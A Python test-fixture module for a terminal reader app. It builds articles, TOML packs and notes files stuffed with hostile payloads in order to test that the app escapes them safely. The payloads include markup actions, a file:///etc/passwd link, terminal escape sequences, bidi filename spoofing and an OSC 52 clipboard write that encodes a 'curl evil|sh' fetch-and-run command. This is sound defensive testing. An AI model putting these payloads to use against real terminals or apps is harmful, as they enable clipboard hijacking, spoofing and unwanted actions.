"""Hostile text: payloads that try to act on the app or the terminal, and a pack built of them.

Each payload goes into every field a pack, an article and a notes file have. The tests check
that each is shown literally (as :func:`expected` says, worked out here independently of the
reader's own sanitiser), that no rendered segment carries an action or a link, and that no
escape sequence of the payload's reaches the terminal.
"""

from __future__ import annotations

from pathlib import Path

from reader.notes import Guess, NotesFile, NotesStore, StudentNote
from reader.tomlwrite import toml_string

ESC = "\x1b"

# (name, payload). Every payload is at most a few hundred characters except the two long ones.
# The two long ones come first: an article with NUL in its first 8 KB is refused as binary
# (a test of its own), so here the NUL comes later, and must be shown safely.
PAYLOADS: list[tuple[str, str]] = [
    ("long-word", "x" * 5000),
    ("huge-line", " ".join(["word"] * 4000)),
    ("markup-bold", "[bold]bold?[/bold]"),
    ("markup-close", "[/] stray close"),
    ("markup-unbalanced", "[red]never closed"),
    ("markup-link", "[link=file:///etc/passwd]link[/link]"),
    ("action-quit", "[@click=app.quit]quit[/]"),
    ("action-screenshot", "[@click=app.screenshot('x.svg','/tmp')]shot[/]"),
    ("action-meta", "[@click=screen.dismiss()]dismiss[/] [on red]x[/]"),
    ("rich-emoji-code", ":warning: :red_circle: $var ${x}"),
    ("csi-clear", f"{ESC}[2J{ESC}[H cleared"),
    ("csi-sgr", f"{ESC}[31mred{ESC}[0m plain"),
    ("csi-cursor-report", f"{ESC}[6n{ESC}[c report"),
    ("csi-alt-screen-off", f"{ESC}[?1049l{ESC}[?25l off"),
    ("osc-title", f"{ESC}]0;pwned title\x07 after"),
    ("osc-8-link", f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\"),
    ("osc-52-clipboard", f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\ copied"),
    ("dcs", f"{ESC}P1$r0m{ESC}\\ dcs"),
    ("esc-single", f"{ESC}c{ESC}7{ESC}8 reset"),
    ("c1-csi", "\x9b2J c1 csi"),
    ("c1-osc", "\x9d0;c1 title\x9c"),
    ("c1-nel", "\x85 next \x8d line"),
    ("nul-del-bel", "NUL\x00 DEL\x7f BEL\x07 BS\x08"),
    ("bidi-override", "file\u202egnp.exe"),
    ("bidi-isolates", "\u2066isolate\u2069 \u2067rtl\u2069 \u2068fsi\u2069 \u202bemb\u202c"),
    ("zero-width", "zero\u200bwidth\u200c\u200d\u2060joiner\ufeff"),
    ("tabs", "a\tb\t\tc"),
    ("carriage-return", "before\rafter\r\nnext"),
    ("vertical-tab-ff", "vt\x0b ff\x0c"),
    ("rtl-arabic", "مرحبا بالعالم هذا نص"),
    ("rtl-hebrew", "שלום עולם"),
    ("cjk", "漢字かなカナ한국어 全角ＡＢＣ"),
    ("combining", "Z\u0351\u036b\u0343\u036a a\u0308\u0301 e\u0301"),
    ("emoji-zwj", "👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈"),
    ("surrogate-like", "\ufffd\ufffe \uffff"),
    ("toml-looking", '"""\n[claims]\nid = "x"\n\'\'\''),
]

SHORT = [(name, text) for name, text in PAYLOADS if len(text) <= 200]


def expected(text: str, *, one_line: bool = True) -> str:
    """How ``text`` must appear on screen: as written, every control character made visible.

    C0 controls become their Control Pictures (ESC → ␛), DEL becomes ␡, tabs become spaces,
    C1 controls and bidi embeddings/overrides/isolates become U+FFFD. Written from the rule,
    not from the reader's code, so that the tests check the reader against it.
    """
    shown = []
    for char in text:
        code = ord(char)
        if char == "\n":
            shown.append(" " if one_line else "\n")
        elif char == "\t":
            shown.append(" ")
        elif code < 0x20:
            shown.append(chr(0x2400 + code))
        elif code == 0x7F:
            shown.append("\u2421")
        elif 0x80 <= code < 0xA0 or 0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069:
            shown.append("\ufffd")
        else:
            shown.append(char)
    return "".join(shown)


def claim_sentence(index: int) -> str:
    return f"Claim number {index} is stated here."


def article_text() -> str:
    """An article: a title line with payloads, then per payload a claim sentence and the payload."""
    parts = ["# " + " ".join(text for _, text in SHORT[:8]).replace("\n", " ") + "\n"]
    for index, (_, text) in enumerate(PAYLOADS):
        parts.append(f"{claim_sentence(index)} The payload follows: {text} [{index + 1}]\n")
    parts.append("")
    for index, (_, text) in enumerate(PAYLOADS):
        parts.append(f"[{index + 1}] Footnote {index}: {text}")
    return "\n".join(parts) + "\n"


def pack_toml() -> str:
    """A pack with payload ``i`` in every field of claim ``i``, source ``i`` and card ``i``."""
    joined = " ".join(text for _, text in SHORT)
    lines = [
        "format = 1",
        "",
        "[article]",
        f"title = {toml_string('Hostile ' + SHORT[4][1] + ' ' + SHORT[8][1])}",
        'file = "article.md"',
        f"author = {toml_string(joined)}",
        f"publisher = {toml_string(SHORT[12][1] + SHORT[13][1])}",
        "",
        "[verdicts.odd]",
        f"label = {toml_string('odd ' + SHORT[0][1])}",
        f"glyph = {toml_string(SHORT[5][1][:1])}",
        f"description = {toml_string(joined)}",
        'tone = "mixed"',
        "",
        "[verdicts.false]",
        'label = "False"',
        'tone = "bad"',
    ]
    for index, (_, text) in enumerate(PAYLOADS):
        lines += [
            "",
            "[[sources]]",
            f'id = "s{index}"',
            f"title = {toml_string(text)}",
            f"publisher = {toml_string(text)}",
            'kind = "other"',
            f"perspective = {toml_string(text)}",
            f'url = "https://example.org/{index}"',
        ]
    for index, (_, text) in enumerate(PAYLOADS):
        lines += [
            "",
            f'[footnotes."{index + 1}"]',
            f'source = "s{index}"',
            f"note = {toml_string(text)}",
        ]
    for index, (_, text) in enumerate(PAYLOADS):
        lines += [
            "",
            "[[claims]]",
            f'id = "c{index}"',
            f"quote = {toml_string(claim_sentence(index))}",
            'kind = "event"',
            f'verdict = "{"odd" if index == 0 else "false"}"',
            f"summary = {toml_string('Summary ' + str(index) + ': ' + text)}",
            "",
            "[[claims.accounts]]",
            f'source = "s{index}"',
            'stance = "contradicts"',
            f"says = {toml_string(text)}",
            f"quote = {toml_string(text)}",
            "",
            "[[claims.notes]]",
            f"text = {toml_string(text)}",
            "",
            "[[claims.questions]]",
            f"text = {toml_string(text)}",
            "",
            "[[claims.prompts]]",
            f"text = {toml_string(text)}",
        ]
    return "\n".join(lines) + "\n"


def write_pack(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "article.md").write_text(article_text(), "utf-8", newline="")
    (folder / "pack.toml").write_text(pack_toml(), "utf-8", newline="")
    return folder


def notes_for(pack_key: str, title: str) -> NotesFile:
    """A student's notes with payload ``i`` as the note, the guess reason and the name."""
    notes = NotesFile(pack_key, title, student=SHORT[4][1] + " " + SHORT[8][1])
    for index, (_, text) in enumerate(PAYLOADS):
        notes.put_note(StudentNote(f"n-{index}", claim_sentence(index), text,
                                   prefix=text[:40], suffix=text[-40:]))
        # Every third guess names a verdict that is not on the scale: the payload itself.
        verdict = text if index % 3 == 2 else "false"
        notes.put_guess(Guess(f"c{index}", verdict, "high", text))
    # Notes whose sentence has gone: the quote itself is shown, so it is a payload too.
    for index, (_, text) in enumerate(SHORT):
        notes.put_note(StudentNote(f"gone-{index}", text, SHORT[13][1]))
    return notes


def write_notes(store: NotesStore) -> NotesFile:
    notes = notes_for(store.pack_key, store.pack_title)
    store.save(notes)
    return notes
